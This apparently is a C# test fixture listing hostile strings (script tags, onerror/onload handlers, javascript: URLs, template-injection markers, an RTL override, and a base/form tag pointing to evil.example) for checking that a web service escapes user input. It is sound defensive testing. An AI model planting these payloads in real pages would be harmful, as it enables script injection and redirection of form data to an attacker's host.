namespace SreEvaluator.Service.Tests.Web;

/// <summary>What answers, names and files may hold, each of which would do something where it is taken for markup, an attribute, a URL or a script.</summary>
internal static class HostileTexts
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>",
        "</textarea><script>alert(2)</script>",
        "\"><img src=x onerror=alert(3)>",
        "' onmouseover='alert(4)' autofocus onfocus='alert(5)",
        "<svg onload=alert(6)><style>*{background:red}</style>",
        "javascript:alert(7)//",
        "</title><script>alert(8)</script><!--",
        "<iframe srcdoc='<script>alert(9)</script>'></iframe>",
        "{{constructor.constructor('alert(10)')()}} ${alert(11)} <%= alert(12) %>",
        "\u202Etxet desrever\u202C <a href=javascript:alert(13)>x</a>",
        "<base href=//evil.example><form action=//evil.example><button>Send</button></form>",
    ];

    /// <summary>All of them in one text.</summary>
    public static string Together { get; } = string.Join(" then ", All);
}
